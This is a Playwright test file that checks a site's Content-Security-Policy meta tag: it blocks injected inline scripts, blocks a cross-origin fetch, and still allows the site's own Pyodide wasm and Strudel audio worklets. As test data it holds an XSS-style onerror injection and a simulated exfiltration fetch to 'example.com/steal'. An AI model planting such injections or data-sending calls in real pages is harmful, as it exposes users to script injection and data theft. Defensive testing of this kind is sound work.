"""The page's Content-Security-Policy (the <meta> in index.html): an injected inline script does not
run and a fetch to a foreign host never leaves the browser, while the page's own modules load."""

from __future__ import annotations

LISTEN = """() => { window.__violations = [];
  document.addEventListener('securitypolicyviolation',
    (e) => window.__violations.push(e.violatedDirective + ' ' + e.blockedURI)); }"""


def test_the_policy_is_in_the_page(page, site):
    page.goto(site)
    policy = page.get_attribute('meta[http-equiv="Content-Security-Policy"]', "content")
    assert "script-src 'self'" in policy and "'unsafe-inline'" not in policy.split("style-src")[0]
    assert "object-src 'none'" in policy


def test_injected_inline_script_is_blocked(page, site):
    page.goto(site)
    page.evaluate(LISTEN)
    page.evaluate("""() => { const s = document.createElement('script');
        s.textContent = 'window.__inline = 1'; document.body.append(s);
        document.body.insertAdjacentHTML('beforeend',
          '<img src="x.png" onerror="window.__inline = 2">'); }""")
    page.wait_for_function("window.__violations.length >= 2", timeout=10_000)
    assert page.evaluate("window.__inline") is None
    assert all(v.startswith("script-src") for v in page.evaluate("window.__violations"))


def test_fetch_to_a_foreign_host_is_blocked_by_the_policy(page, site):
    page.goto(site)
    page.evaluate(LISTEN)
    outcome = page.evaluate("""async () => {
        try { await fetch('https://example.com/steal?x=1'); return 'sent'; }
        catch (err) { return 'blocked: ' + err.message; } }""")
    assert outcome.startswith("blocked")
    page.wait_for_function("window.__violations.length >= 1", timeout=10_000)
    assert page.evaluate("window.__violations")[0].startswith("connect-src")
    # It never reached the network: the context's request log (asserted empty by the fixture)
    # would have recorded it.


def test_own_modules_and_wasm_still_load_under_the_policy(page, site):
    page.goto(site)
    page.evaluate(LISTEN)
    ok = page.evaluate("""async () => { const r = await fetch('./vendor/pyodide/pyodide.asm.wasm');
        const m = await WebAssembly.compile(await r.arrayBuffer()); return !!m; }""")
    assert ok
    assert page.evaluate("window.__violations") == []


def test_strudels_worklets_load_under_the_policy_and_distortion_sounds(page, site):
    """Strudel's audio worklets (.shape runs in one) ship as files of the site, not data: URLs the
    policy refuses (scripts/build.py): a distorted layer is heard, and nothing is refused."""
    page.goto(site)
    page.evaluate(LISTEN)
    page.wait_for_function("window.bookmusic && window.bookmusic.sound", timeout=30_000)
    code = 'setcpm(30)\nstack(\n  n("0 0 3 0").scale("C2:minor").sound("sawtooth").shape(0.4).gain(0.2)\n)'
    page.evaluate("async (c) => { const s = window.bookmusic.sound; await s.unlock(); await s.play(c); }",
                  code)
    page.wait_for_function("window.bookmusic.sound.level() > 0.01", timeout=20_000, polling=100)
    page.evaluate("window.bookmusic.sound.stop()")
    assert page.evaluate("window.__violations") == []
    worklet = page.evaluate("fetch('./vendor/strudel/worklets/worklet-1.js').then((r) => r.status)")
    assert worklet == 200
